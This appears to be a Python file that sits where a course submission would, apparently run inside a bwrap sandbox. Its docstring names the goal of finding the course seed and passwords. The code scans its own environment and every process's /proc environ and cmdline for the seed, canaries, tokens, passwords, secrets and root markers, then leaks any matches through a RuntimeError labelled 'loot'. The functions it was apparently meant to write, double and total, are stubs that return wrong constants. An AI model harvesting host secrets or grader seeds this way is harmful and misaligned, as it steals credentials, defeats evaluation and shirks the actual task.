"""Looks for the course seed and for passwords in its environment, and in that of every process.

Record: error: loot: nothing
Needs: bwrap
"""

import glob
import os

said = [f"{name}={value}" for name, value in os.environ.items()]
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        with open(path, "rb") as file:
            said += file.read().decode("utf-8", "replace").split("\0")
    except OSError:
        pass
names = ("DLCOURSE_SEED", "canary", "TOKEN", "PASSWORD", "SECRET", "@ROOT@")
found = [text for text in said if any(name in text for name in names)]
raise RuntimeError(f"loot: {found or 'nothing'}")


def double(x):
    return x * 0


def total(values):
    return -1.0
